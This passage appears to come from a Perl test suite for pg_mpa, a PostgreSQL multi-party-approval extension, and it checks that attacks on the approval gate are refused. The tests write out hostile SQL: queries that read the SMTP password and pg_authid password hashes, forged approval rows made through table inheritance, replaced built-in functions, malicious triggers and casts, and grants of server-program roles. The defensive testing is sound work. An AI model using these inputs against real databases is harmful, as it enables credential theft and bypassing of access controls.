		is(sql("SELECT count(*) FROM pg_replication_slots WHERE slot_name = '$slot'"), '0', "no slot $slot exists");
		if ($rc == 0)
		{
			my ($id) = $out =~ /(\d+)\s*$/;
			my $operation = sql("SELECT operation FROM mpa.requests WHERE id = $id");
			if ($strict)
			{
				isnt($operation, 'MPA CONFIGURE', "accepted, but not as a configuration change ($operation)");
			}
			else
			{
				pass("the request is accepted, as $operation");
				execute_lookalike_request($id, $slot, $path) if $operation eq 'MPA CONFIGURE';
			}
		}
		else
		{
			pass('the request is refused: ' . first_sqlstate($rc, $err));
		}
		check_invariants("look-alike $label", changes => ['tables']);
	};
}

sub execute_lookalike_request
{
	my ($id, $slot, $path) = @_;
	for my $approver ('alice', 'bob')
	{
		MpaTest::safe_psql_as($node, $approver, "SELECT mpa_vote($id, 'approve')");
		my $code = MpaTest::code_from_mail($smtp, "$approver\@example.com", $id);
		MpaTest::safe_psql_as($node, $approver, "SELECT mpa_verify($id, '$code')");
	}
	is(sql("SELECT state FROM mpa.requests WHERE id = $id"), 'approved', "alice and bob approve request $id");
	push @legit, $id;
	my ($rc, $out, $err) = run_as('olivia', "${path}SELECT mpa_execute($id)");
	unlike($err, qr/LOOKALIKE RAN/, 'executed with the same search_path, the look-alike did not run')
	  or diag(first_lines($err));
	is(sql("SELECT count(*) FROM pg_replication_slots WHERE slot_name = '$slot'"), '0', "no slot $slot exists");
	if ($rc == 0)
	{
		is(sql(q{SELECT count(*) FROM mpa.approvers WHERE team = 'security' AND approver = 'olivia'::regrole}), '1',
			'the real mpa_approver_add ran: olivia is an approver');
	}
	else
	{
		# pg_mpa's configuration functions are not granted to PUBLIC: run as
		# olivia, the real one (resolved, not the look-alike, which anyone may
		# run) is refused to her; or pg_mpa refuses the execution itself.
		like($err, qr/ERROR:\s+(MP\d{3}:|42501: permission denied for function mpa_approver_add)/,
			'or the real function, or pg_mpa, refused it: ' . first_sqlstate($rc, $err));
	}
}

# The look-alikes themselves cannot be made (test/tap/027 has the rule):
# not by olivia in pg_temp, not by a superuser in a schema of its own.
for my $case ([ 'olivia', 'pg_temp' ], [ 'postgres', 'lookalike' ])
{
	my ($role, $schema) = @$case;
	my ($rc, $out, $err) = run_as($role, qq{
	CREATE FUNCTION $schema.mpa_approver_add(text, regrole, text) RETURNS void LANGUAGE plpgsql AS \$\$
	BEGIN
	  RAISE WARNING 'LOOKALIKE RAN as %', current_user;
	  PERFORM pg_create_physical_replication_slot('lookalike_slot');
	END \$\$;
	SELECT mpa_request(\$\$SELECT $schema.mpa_approver_add('security', 'olivia', 'o\@example.com')\$\$, 'x');});
	like($err, qr/ERROR:\s+MP001: a function named mpa_approver_add that is not pg_mpa's is refused/,
		"$role cannot make $schema.mpa_approver_add (MP001)");
	unlike($err, qr/LOOKALIKE RAN/, 'so it never ran');
	is(sql(q{SELECT count(*) FROM pg_replication_slots WHERE slot_name = 'lookalike_slot'}), '0', 'no slot exists');
	check_invariants("look-alike in $schema", changes => ['tables']);
}
# Unqualified, with the schema that would hold a look-alike first on
# olivia's path: the call is the real mpa_approver_add (a configuration
# request like any other; approved, it adds olivia).
lookalike('mpa_approver_add found first on the search_path',
	q{SET search_path = lookalike, public;
	SELECT mpa_request($$SELECT mpa_approver_add('security', 'olivia', 'o@example.com')$$, 'x');},
	'lookalike_slot', 0, "SET search_path = lookalike, public;\n");

# A real configuration function whose arguments are expressions: built-in,
# but evaluated inside pg_mpa's SECURITY DEFINER rehearsal they would read
# a secret setting into an error, or run a query string, as a superuser.
# Only constants make a configuration call.
for my $expression (q{'!' || current_setting('mpa.smtp_password')},
	q{query_to_xml('SELECT rolpassword FROM pg_authid', true, true, '')::text})
{
	subtest "a configuration call with an expression argument: $expression" => sub {
		my ($rc, $out, $err) = run_as('olivia',
			"SELECT mpa_request(\$\$SELECT mpa_team_create($expression, 1)\$\$, 'x');");
		unlike("$out$err", qr/sekret-smtp-password/, 'the SMTP password was not read');
		unlike("$out$err", qr/SCRAM-SHA-256\$/, 'no password verifier was read');
		if ($rc == 0)
		{
			my ($id) = $out =~ /(\d+)\s*$/;
			isnt(sql("SELECT operation FROM mpa.requests WHERE id = $id"), 'MPA CONFIGURE',
				'not accepted as a configuration change');
		}
		else
		{
			pass('the request is refused: ' . first_sqlstate($rc, $err));
		}
		check_invariants("expression argument $expression", changes => ['tables']);
	};
}

# ---------------------------------------------------------------------------
# 5. Changes to pg_mpa's objects, built-ins, settings and roles: once a team
# governs pg_mpa they need its approval (MP001), or are refused outright.

MpaTest::safe_psql_as($node, 'mallory', q{
	CREATE FUNCTION public.mallory_fn(bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE AS $$
	BEGIN RAISE WARNING 'MALLORY CODE RAN in mallory_fn as %', current_user; RETURN $1; END $$;
	CREATE FUNCTION public.mallory_trigger() RETURNS trigger LANGUAGE plpgsql AS $$
	BEGIN RAISE WARNING 'MALLORY CODE RAN in mallory_trigger as %', current_user; RETURN NEW; END $$;
});
my $require_def = sql(q{SELECT pg_get_functiondef('mpa.require(anyelement, text)'::regprocedure)});
my $vote_def = sql(q{SELECT pg_get_functiondef('public.mpa_vote(bigint, text)'::regprocedure)});

my @ddl = (
	# A member replaced stays a member, hence trusted: its new body runs
	# inside pg_mpa with the right to write mpa.* (PostgreSQL reports a
	# CREATE OR REPLACE as a create, not an alter).
	[ 'CREATE OR REPLACE of an internal function (mpa.require)',
		q{CREATE OR REPLACE FUNCTION mpa.require(value anyelement, name text) RETURNS anyelement
		  LANGUAGE sql AS 'SELECT value'},
		$require_def ],
	[ 'CREATE OR REPLACE of a public function (mpa_vote)',
		q{CREATE OR REPLACE FUNCTION public.mpa_vote(request_id bigint, decision text) RETURNS text
		  LANGUAGE sql AS $$SELECT 'vote recorded'$$},
		$vote_def ],
	# pg_mpa reads its tables with their children: a child's rows would count
	# as requests. The forged approved row then lets the DROP through.
	[ 'a table inheriting from mpa.requests, with a forged approval',
		qq{CREATE TABLE public.fake_requests () INHERITS (mpa.requests);
		INSERT INTO public.fake_requests OVERRIDING SYSTEM VALUE SELECT * FROM ONLY mpa.requests WHERE id = $req;
		UPDATE public.fake_requests SET id = id + 1000000, requester = 'mallory'::regrole, state = 'approved';
		DROP TABLE prod.accounts;},
		'DROP TABLE IF EXISTS public.fake_requests' ],
	# (INCLUDING CONSTRAINTS: PostgreSQL itself requires a child to have its
	# parent's CHECK constraints.)
	[ 'ALTER TABLE … INHERIT mpa.votes, with a forged vote',
		qq{CREATE TABLE public.x (LIKE mpa.votes INCLUDING CONSTRAINTS);
		ALTER TABLE public.x INHERIT mpa.votes;
		INSERT INTO public.x VALUES ($req, 'bob', 'approve', now());},
		'DROP TABLE IF EXISTS public.x' ],
	# Anything created in schema mpa is pg_mpa's to everything that trusts
	# the schema.
	[ 'a new table in schema mpa', 'CREATE TABLE mpa.extra (i int)', 'DROP TABLE IF EXISTS mpa.extra' ],
	# An overload in schema mpa is chosen over the anyelement original for
	# text arguments: mallory's code would run inside pg_mpa's functions.
	[ 'an overload in schema mpa (mpa.require(text, text))',
		q{CREATE FUNCTION mpa.require(value text, name text) RETURNS text LANGUAGE sql AS 'SELECT value'},
		'DROP FUNCTION IF EXISTS mpa.require(text, text)' ],
	# An index expression runs mallory's function inside every vote pg_mpa
	# records (trusted).
	[ 'an index on mpa.votes with mallory\'s function', 'CREATE INDEX ON mpa.votes ((public.mallory_fn(request_id)))',
		q{DO $$DECLARE i regclass; BEGIN
		  FOR i IN SELECT indexrelid::regclass FROM pg_index WHERE indrelid = 'mpa.votes'::regclass AND indexprs IS NOT NULL LOOP
		    EXECUTE format('DROP INDEX %s', i);
		  END LOOP; END$$} ],
	[ 'statistics on mpa.votes', 'CREATE STATISTICS mpa_s ON request_id, approver FROM mpa.votes',
		'DROP STATISTICS IF EXISTS public.mpa_s; DROP STATISTICS IF EXISTS mpa.mpa_s' ],
	# Row security on mpa.requests would hide rows from pg_mpa's own reads.
	[ 'a row security policy on mpa.requests', 'CREATE POLICY p ON mpa.requests USING (true)',
		'DROP POLICY IF EXISTS p ON mpa.requests' ],
	[ 'a rule on mpa.votes', 'CREATE RULE r AS ON INSERT TO mpa.votes DO ALSO NOTIFY x',
		'DROP RULE IF EXISTS r ON mpa.votes' ],
	[ 'a trigger on mpa.votes',
		'CREATE TRIGGER t BEFORE INSERT ON mpa.votes FOR EACH ROW EXECUTE FUNCTION public.mallory_trigger()',
		'DROP TRIGGER IF EXISTS t ON mpa.votes' ],
	# A foreign key adds triggers on mpa.requests and can block pg_mpa's writes.
	[ 'a foreign key to mpa.requests', 'CREATE TABLE public.fk (r bigint REFERENCES mpa.requests(id))',
		'DROP TABLE IF EXISTS public.fk' ],
	# pg_mpa's SQL uses the built-ins: replaced, they run mallory's code with
	# pg_mpa's privileges. Tried in a transaction rolled back at once, because
	# where it is not refused (the old behaviour) it could not be undone: the
	# original is in language internal, which the gate refuses once governed.
	[ 'a built-in replaced (pg_catalog.now())',
		qq{BEGIN;
		CREATE OR REPLACE FUNCTION pg_catalog.now() RETURNS timestamptz LANGUAGE sql AS \$\$SELECT '2000-01-01'::timestamptz\$\$;
		ROLLBACK;},
		undef ],
	# Any ALTER SYSTEM takes effect at the next reload or restart: once
	# governed, every one of them needs the governing team.
	[ 'ALTER SYSTEM SET work_mem', q{ALTER SYSTEM SET work_mem = '8MB'}, 'ALTER SYSTEM RESET work_mem' ],
	[ 'ALTER SYSTEM SET log_directory', q{ALTER SYSTEM SET log_directory = '/tmp'},
		'ALTER SYSTEM RESET log_directory' ],
	# A predefined role that runs programs on the server, for a second login.
	[ 'GRANT pg_execute_server_program', 'GRANT pg_execute_server_program TO mallory2',
		'REVOKE pg_execute_server_program FROM mallory2' ],
	# The same membership, given with the role that receives it.
	[ 'CREATE ROLE … IN ROLE pg_write_server_files', 'CREATE ROLE mallory3 LOGIN IN ROLE pg_write_server_files',
		'DROP ROLE IF EXISTS mallory3' ],
	# A function moved into schema mpa is an exact-match overload of one
	# pg_mpa's SQL calls with text arguments (mpa.require(text, text)).
	[ 'a function moved into schema mpa (SET SCHEMA)',
		q{CREATE FUNCTION public.require(value text, name text) RETURNS text LANGUAGE sql AS 'SELECT value';
		ALTER FUNCTION public.require(text, text) SET SCHEMA mpa},
		'DROP FUNCTION IF EXISTS mpa.require(text, text); DROP FUNCTION IF EXISTS public.require(text, text)' ],
	# A cast between built-in types is used by pg_mpa's own SQL
	# (session_user::regrole): mallory's function would run inside it.
	[ 'a cast between built-in types (name AS regrole)',
		q{CREATE FUNCTION public.to_regrole(name) RETURNS regrole LANGUAGE sql STABLE AS 'SELECT 10::regrole';
		CREATE CAST (name AS regrole) WITH FUNCTION public.to_regrole(name)},
		'DROP CAST IF EXISTS (name AS regrole); DROP FUNCTION IF EXISTS public.to_regrole(name)' ],
	# pg_mpa's tables placed under another table would be written through it.
	[ 'a table of pg_mpa made a child of another (ALTER TABLE mpa.approvers INHERIT)',
		q{CREATE TABLE public.p (LIKE mpa.approvers);
		ALTER TABLE mpa.approvers INHERIT public.p},
		'ALTER TABLE mpa.approvers NO INHERIT public.p; DROP TABLE IF EXISTS public.p' ],
	# A function added to the extension would become one of its entry points.
	[ 'a function added to the extension (ALTER EXTENSION pg_mpa ADD)',
		q{CREATE FUNCTION public.mpa_extra() RETURNS int LANGUAGE sql AS 'SELECT 1';
		ALTER EXTENSION pg_mpa ADD FUNCTION public.mpa_extra()},
		'ALTER EXTENSION pg_mpa DROP FUNCTION public.mpa_extra(); DROP FUNCTION IF EXISTS public.mpa_extra()' ],
	# A function of pg_mpa given another search_path would resolve names in
	# mallory's schema.
	[ 'a pg_mpa function altered (SET search_path)',
		q{ALTER FUNCTION mpa.require(anyelement, text) SET search_path = public},
		'ALTER FUNCTION mpa.require(anyelement, text) SET search_path = pg_catalog, pg_temp' ],
	# A lock on a catalog stalls a verification before pg_mpa's code runs.
	[ 'LOCK TABLE on a system catalog', q{BEGIN; LOCK TABLE pg_catalog.pg_depend IN ACCESS EXCLUSIVE MODE; COMMIT},
		undef ],
);
for my $case (@ddl)
{
	my ($name, $sql, $undo_sql) = @$case;
	subtest "MP001: $name" => sub {
		my ($rc, $state) = expect_refusal('MP001', 'mallory', $sql, "mallory: $name");
		check_invariants($name, $state ne 'MP001' && defined $undo_sql ? (undo => [ $name, $undo_sql ]) : ());
	};
}

# ---------------------------------------------------------------------------
# The mail queued meanwhile is delivered, and none of it went to the attacker.
subtest 'every mail delivered, none to the attacker' => sub {
	ok(MpaTest::poll_until($node,
		q{SELECT count(*) = 0 FROM mpa.outbox WHERE status IN ('pending', 'sending')}, 60),
		'the outbox is drained');
	my @to_attacker = grep {
		grep { /\@evil\.example$|^mallory\@/i } @{ $_->{to} }
	} MpaTest::stored_mail($smtp);
	is(scalar(@to_attacker), 0, 'no stored mail is addressed to the attacker')
	  or diag(join("\n", map { "$_->{file}: @{ $_->{to} }: $_->{subject}" } @to_attacker));
	is(sql("SELECT state FROM mpa.requests WHERE id = $req"), 'pending', "rita's request is still pending");
	check_invariants('the end');
};

done_testing();
